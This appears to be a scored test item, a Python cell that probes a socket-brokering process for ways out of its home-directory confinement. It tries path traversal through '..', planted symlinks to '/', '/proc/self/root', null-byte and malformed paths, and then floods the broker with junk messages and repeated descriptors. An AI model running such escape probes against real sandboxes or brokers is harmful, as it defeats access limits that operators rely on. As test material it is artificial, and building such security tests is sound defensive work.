"""Asks the process that connects sockets in its own home for sockets elsewhere, by every kind of path, and sends it junk.

Added to: right answers
Score: full
Loot: none
"""

# %%
import os
import socket
import struct

home = os.environ["HOME"]
for name, target in [("root", "/"), *((f"link{n}", address) for n, address in enumerate(STREAMS))]:
    os.symlink(target, name)


def ask(path, line):
    """The number of the error with which a connection ends that is asked for on this socket; 0 for none."""
    answer, theirs = os.pipe()
    with socket.socket(socket.AF_UNIX) as client, socket.socket(fileno=os.dup(line)) as requests:
        requests.settimeout(0.1)
        try:
            socket.send_fds(requests, [path.encode()], [client.fileno(), theirs])
            os.set_blocking(answer, False)
            for _ in range(20):
                try:
                    return struct.unpack("i", os.read(answer, 4))[0]
                except BlockingIOError:
                    __import__("time").sleep(0.005)
        except (OSError, struct.error):
            pass
        finally:
            os.close(answer), os.close(theirs)
    return -1


lines = [fd for fd in sockets() if socket.socket(fileno=os.dup(fd)).type == socket.SOCK_SEQPACKET]
for line in lines:
    for number, address in enumerate(STREAMS):
        for path in (address, f"{home}/..{address}", f"{home}/../../..{address}", f"{home}/root{address}",
                     f"{home}/link{number}", f"{home}//{address}", f"{home}/./../{os.path.relpath(address, home)}",
                     f"/proc/self/root{address}", f"{home}/\0{address}", "", "/", home, ".", "\udcff".encode("utf-8", "surrogateescape").decode("latin-1")):
            if ask(path, line) == 0:
                loot.append((line, path))
    with socket.socket(fileno=os.dup(line)) as requests:
        for junk in (b"x", b"\0" * 4000, b"/" * 4000):
            try:
                requests.send(junk)
                socket.send_fds(requests, [junk], [line] * 8)
            except OSError:
                pass
